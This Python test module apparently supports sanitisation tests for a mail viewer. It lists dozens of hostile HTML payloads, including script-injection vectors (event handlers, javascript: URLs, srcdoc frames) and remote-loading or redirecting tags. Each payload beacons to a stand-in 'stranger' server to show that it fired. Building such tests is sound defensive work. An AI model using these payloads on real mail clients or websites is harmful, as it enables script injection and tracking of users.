"""What a hostile mail may try: to run a script, to fetch, to send, to lead away.

Each comes true by a request to a stranger's server, or by a word left in the page around the mail.
"""

from collections.abc import Mapping
from html import escape

from tests.servers.web import Page

_HARM = (
    "try{{top.document.documentElement.dataset.harmed='{name}'}}catch(e){{}}"
    "new Image().src='{stranger}/true/{name}';void 0"
)
# By themselves, as soon as the mail is shown. {harm} is a script, also as an attribute's value.
_AT_ONCE = {
    "script": "<script>{harm}</script>",
    "strangers-script": '<script src="{stranger}/strangers-script.js"></script>',
    "module": '<script type="module">{harm}</script>',
    "picture-failed": '<img alt="" src="data:," onerror="{harm}">',
    "source-failed": '<video><source src="data:," onerror="{harm}"></video>',
    "drawing-loaded": '<svg onload="{harm}"></svg>',
    "script-in-drawing": "<svg><script>{harm}</script></svg>",
    "animated": "<style>@keyframes a{{}}</style>"
    '<p style="animation:a 1s" onanimationstart="{harm}"></p>',
    "opened": '<details open ontoggle="{harm}"><summary>S</summary></details>',
    "focused": '<input autofocus onfocus="{harm}">',
    "frame-written": '<iframe srcdoc="<script>{harm}</script>"></iframe>',
    "frame-at-script": '<iframe src="javascript:{harm}"></iframe>',
    "frame": '<iframe src="{stranger}/true/frame"></iframe>',
    "object": '<object data="{stranger}/true/object"></object>',
    "embed": '<embed src="{stranger}/true/embed">',
    "sheet": '<link rel="stylesheet" href="{stranger}/true/sheet">',
    "import": "<style>@import url({stranger}/true/import);</style>",
    "background": '<p style="background:url({stranger}/true/background)">B</p>',
    "font": "<style>@font-face{{font-family:F;src:url({stranger}/true/font)}}</style>"
    '<p style="font-family:F">F</p>',
    "picture": '<img alt="" src="{stranger}/true/picture">',
    "drawn": '<svg><image href="{stranger}/true/drawn" width="9" height="9"/></svg>',
    "button-picture": '<input type="image" alt="" src="{stranger}/true/button-picture">',
    "poster": '<video poster="{stranger}/true/poster"></video>',
    "sound": '<audio preload="auto" src="{stranger}/true/sound"></audio>',
    "base": '<base href="{stranger}/true/"><img alt="" src="base">',
    "preload": '<link rel="preload" as="style" href="{stranger}/true/preload">',
    "refresh": '<meta http-equiv="Refresh" content="0; url={stranger}/true/refresh">',
}
# When somebody clicks on the words, which are the name.
_ON_CLICK = {
    "click-heard": '<p onclick="{harm}">click-heard</p>',
    "link-to-script": '<p><a href="javascript:{harm}">link-to-script</a></p>',
    "link": '<p><a href="{stranger}/true/link">link</a></p>',
    "link-to-top": '<p><a target="_top" href="{stranger}/true/link-to-top">link-to-top</a></p>',
    "form": '<form action="{stranger}/true/form"><button>form</button></form>',
    "form-to-top": '<form target="_top" method="post" action="{stranger}/true/form-to-top">'
    "<button>form-to-top</button></form>",
    "button-at-script": '<form><button formaction="javascript:{harm}">button-at-script'
    "</button></form>",
}


def attacks_at_once(stranger: str) -> Mapping[str, str]:
    """Return what happens by itself, by name, as HTML."""
    return {name: _filled(html, name, stranger) for name, html in _AT_ONCE.items()}


def attacks_on_click(stranger: str) -> Mapping[str, str]:
    """Return what happens on a click, by name, as HTML."""
    return {name: _filled(html, name, stranger) for name, html in _ON_CLICK.items()}


def site_of(stranger: str) -> Mapping[str, Page]:
    """Return the stranger's pages: a script, and each attack alone in a page that lets it be."""
    script = _harm("strangers-script", stranger).encode()
    pages = {
        "/strangers-script.js": Page(body=script, media_type="text/javascript"),
        "/": Page(body=b"<!doctype html><title>S</title><iframe id='frame'></iframe>"),
    }
    for name, html in {**attacks_at_once(stranger), **attacks_on_click(stranger)}.items():
        body = f"<!doctype html><meta charset='utf-8'><title>{name}</title>{html}"
        pages[f"/alone/{name}"] = Page(body=body.encode())
        pages[f"/true/{name}"] = Page()
    return pages


def _filled(html: str, name: str, stranger: str) -> str:
    harm = _harm(name, stranger)
    is_value = "<script" not in html or "srcdoc" in html
    return html.format(harm=escape(harm) if is_value else harm, stranger=stranger)


def _harm(name: str, stranger: str) -> str:
    return _HARM.format(name=name, stranger=stranger)
